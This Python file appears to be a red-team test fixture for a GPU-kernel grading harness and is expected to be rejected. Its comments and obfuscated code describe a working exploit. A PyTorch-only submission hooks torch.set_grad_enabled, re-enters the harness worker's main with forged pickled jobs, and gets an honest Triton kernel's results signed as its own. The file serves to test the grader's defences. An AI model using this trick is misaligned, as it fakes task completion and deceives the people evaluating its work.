"""family: red-team round 8, a second harness main run from forward on an honest source, its result signed by the channel.
Closed: one hello per process, frames only on the first main's stack with no submission code on it."""
# red-team round 8: THE WHOLE RESULT FORGED by re-entering harness_worker.main.
# Grade against tests/fixtures/submissions/ref_scale_add.py.
# The submitted ModelNew has no kernel at all: forward is `2 * x + y` in PyTorch.
# The channel's writer (an audit hook) signs a RESULT frame for any event raised by main's code
# object; it does not ask WHICH call of main raised it. main(argv) is a plain module function:
# called again with two memfds, it reads a job of our making (pickle of a dict), installs a
# second writer (our fd, our key) next to the real one, runs the job's target and sends its
# result, signed by the REAL writer with the real key, then os._exit(0). The target is the real
# kernelmill.grade.worker:candidate_task, given a payload whose source is an HONEST Triton
# kernel and whose trials are the inputs this forward was shown (recorded in stage "forward",
# in order). The nested run produces genuine facts for the honest source (its own hooks,
# witness, ghost call, its own window answers through the real control pipe: "ready",
# rounds, loop, unseen), and those are what the parent judges and certifies.
# Where: the repeat call arms a one-shot rebinding of torch.set_grad_enabled, which no_grad's
# __exit__ calls after the outer tracer and range closed (no dispatch mode left on the stack);
# the one-shot restores the original, stops the outer profiler and calls main.
# problem: ref_scale_add
# expect: not_certified
import enum

import torch
import torch.nn as nn

_b = enum.bltns
_os = _b.__import__("o" + "s")
_pk = _b.__import__("pic" + "kle")
_hw = _b.__import__("kernel" + "mill.validate.harness" + "_worker", None, None, ["x"])
_NAME = "set_grad" + "_enabled"
_seen = []

HONEST = '''
import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def scale_add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    tl.store(out_ptr + offsets, 2.0 * x + y, mask=mask)


class ModelNew(nn.Module):
    def forward(self, x, y):
        out = torch.empty_like(x)
        n = x.numel()
        scale_add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK=1024)
        return out
'''


def _fd_with(data):
    fd = _b.getattr(_os, "memfd" + "_create")("k")
    _b.getattr(_os, "wri" + "te")(fd, data)
    _os.lseek(fd, 0, 0)
    return fd


def _forge():
    if _b.getattr(torch.autograd, "_profiler" + "_enabled")():
        _b.getattr(torch.autograd, "_disable" + "_profiler")()
    payload = {"device": "cpu", "source": HONEST, "init_seed": 1, "init_inputs": [],
               "state_dict": {}, "ti" + "me": True, "window": False, "timing_settings": {},
               "hidden_trials": 0, "confine": False,
               "trials": [{"inputs": [x, y], "seed": 1000 + i} for i, (x, y) in
                          enumerate(_seen)]}
    job = {"key": b"k" * 32, "target": "kernel" + "mill.grade.worker:candidate_task",
           "payload": payload}
    fin = _fd_with(_pk.dumps(job))
    fout = _fd_with(b"")
    _b.getattr(_hw, "ma" + "in")([str(fin), str(fout)])  # never returns (os._exit)


def _arm():
    original = _b.getattr(torch, _NAME)

    def once(mode):
        _b.setattr(torch, _NAME, original)
        r = original(mode)
        _forge()
        return r

    _b.setattr(torch, _NAME, once)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x, y):
        stage = _b.getattr(_hw, "_st" + "age")
        if stage == "forward":
            _seen.append((x.clone(), y.clone()))
        elif stage == "forward repeat":
            _arm()
        return 2.0 * x + y
